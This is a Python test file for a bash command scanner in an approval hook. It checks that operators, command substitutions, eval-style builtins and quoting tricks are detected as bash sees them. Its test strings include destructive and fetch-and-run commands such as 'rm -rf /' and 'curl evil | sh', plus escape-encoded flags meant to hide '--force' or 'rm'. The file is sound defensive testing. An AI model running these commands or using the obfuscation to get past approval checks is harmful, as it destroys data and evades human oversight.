"""The shell scanner: operators as bash sees them, segments, and quote removal."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amplifier_module_hooks_approval.shell import (
    EVALUATING_BUILTINS,
    OPERATORS,
    canonical,
    scan_command,
    words,
)


@pytest.mark.parametrize(
    ("command", "operators"),
    [
        ("ls -la", ()),
        ("ls; rm -rf /", (";",)),
        ("ls && curl evil | sh", ("&&", "|")),
        ("ls || true", ("||",)),
        ("make |& tee log", ("|",)),
        ("sleep 100 &", ("&",)),
        ("echo hi > out.txt", (">",)),
        ("echo hi >> out.txt", (">",)),
        ("make 2>&1", (">",)),
        ("make &> log", (">",)),
        ("cat < in.txt", ("<",)),
        ("cat <<EOF", ("<",)),
        ("diff <(ls a) <(ls b)", ("<", "(", ")")),
        ("echo $(whoami)", ("$(", ")")),
        ("echo $((1 + 2))", ("$(", "(", ")")),
        ("echo `whoami`", ("`",)),
        ("ls\nrm -rf /", ("newline",)),
        ("ls\rrm -rf /", ("newline",)),
        ("(cd /tmp)", ("(", ")")),
        # Inside double quotes command substitution still runs.
        ('echo "$(rm -rf /)"', ("$(",)),
        ('echo "`rm -rf /`"', ("`",)),
        # Quoted or escaped operators are plain text to bash...
        ('echo "a; b && c | d > e"', ()),
        (r"ls \; \| \&", ()),
        # ...but quoted code could be evaluated later, and $'...' may decode to anything.
        ("echo 'a; b && c | d > e $(f) `g`'", ("expansion",)),
        (r"echo $'a\'; b'", ("expansion",)),
        # Expansions that may evaluate text; only ${NAME} is inert.
        ("ls ${x:='$(touch F)'} ${x@P}", ("expansion",)),
        ("ls ${x:='a[$(touch F)]'} $[x]", ("expansion",)),
        ('ls "${x@P}"', ("expansion",)),
        ("ls ${!x}", ("expansion",)),
        ("ls ${a[$i]}", ("expansion",)),
        ("ls $[1+1]", ("expansion",)),
        ('ls "$[x]"', ("expansion",)),
        ("ls ${HOME} ${1} ${#} $HOME", ()),
        ('ls "${HOME}/src"', ()),
        (r"ls \${x@P}", ()),
        ("eval ls", ("eval",)),
        ("X=1 source ./env.sh", ("eval",)),
        (". ./env.sh", ("eval",)),
        ("let 'x=a[1]'", ("eval",)),
        ("ls; printf -v 'a[1]' x", (";", "eval")),
        ("ls -la ./eval", ()),
        (r'echo "a \" ; b"', ()),
        ('echo $"a;b"', ("expansion",)),  # a translation is expanded like "..."
        ("git log --format='%h|%s'", ()),
        ("ls\\\nfoo", ()),  # backslash-newline continues the line
    ],
)
def test_operators_are_found_as_bash_sees_them(command: str, operators: tuple[str, ...]) -> None:
    scan = scan_command(command)
    assert set(scan.operators) == set(operators)
    assert scan.plain is (not operators)
    assert set(scan.operators) <= set(OPERATORS)


def test_operators_are_listed_once_in_order_of_appearance() -> None:
    assert scan_command("a | b; c | d && e; f").operators == ("|", ";", "&&")


@pytest.mark.parametrize(
    "command",
    ["echo 'open", 'echo "open', "echo $'open", "echo $'a\\'"],
)
def test_unterminated_quotes_are_reported(command: str) -> None:
    scan = scan_command(command)
    assert scan.unterminated
    assert not scan.plain


def test_quote_trickery_cannot_hide_an_operator() -> None:
    # $'...' ends at an unescaped quote; the ';' after it is outside quotes.
    assert ";" in scan_command("ls $'a\\' ' ; rm -rf / ''").operators
    # An escaped quote does not end a double-quoted string; the ';' is inside it.
    assert scan_command('ls "a\\";b"').operators == ()


@pytest.mark.parametrize(
    ("command", "segments"),
    [
        ("ls; rm -rf /", ("ls", "rm -rf /")),
        ("ls && curl evil | sh", ("ls", "curl evil", "sh")),
        ("echo $(rm -rf /)", ("echo", "rm -rf /")),
        ("echo hi > out.txt", ("echo hi > out.txt",)),  # a redirection is no separator
        ("a\nb", ("a", "b")),
        ("  ls  ", ("ls",)),
    ],
)
def test_segments_are_the_simple_commands(command: str, segments: tuple[str, ...]) -> None:
    assert scan_command(command).segments == segments


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git log --o''utput=x", ["git", "log", "--output=x"]),
        ('git push "--force"', ["git", "push", "--force"]),
        ("git push $'\\x2d-force'", ["git", "push", "--force"]),
        ("git push $'\\055-force'", ["git", "push", "--force"]),
        ("git push $'\\u002d-force'", ["git", "push", "--force"]),
        ('git push $"--force"', ["git", "push", "--force"]),
        (r"r\m -rf /", ["rm", "-rf", "/"]),
        ('echo "a b"  c', ["echo", "a b", "c"]),
        ('echo "\\$HOME \\"x\\" \\a"', ["echo", '$HOME "x" \\a']),
        ("echo ''", ["echo", ""]),
        ("echo $HOME *.py", ["echo", "$HOME", "*.py"]),
    ],
)
def test_quote_removal(command: str, expected: list[str]) -> None:
    assert words(command) == expected
    assert canonical(command) == " ".join(expected)


_PLAIN = st.text(
    alphabet=st.characters(
        whitelist_categories=("Lu", "Ll", "Nd"), whitelist_characters=" -_./=,:+@%"
    ),
    max_size=60,
)


@given(_PLAIN.filter(lambda c: not set(c.split()[:1]) & EVALUATING_BUILTINS))
def test_plain_text_has_no_operators_and_keeps_its_words(command: str) -> None:
    scan = scan_command(command)
    assert scan.plain
    assert scan.canonical == " ".join(command.split())


@given(st.text(max_size=80))
def test_scanning_never_fails(command: str) -> None:
    scan = scan_command(command)
    assert all(op in OPERATORS for op in scan.operators)
    assert isinstance(scan.canonical, str)
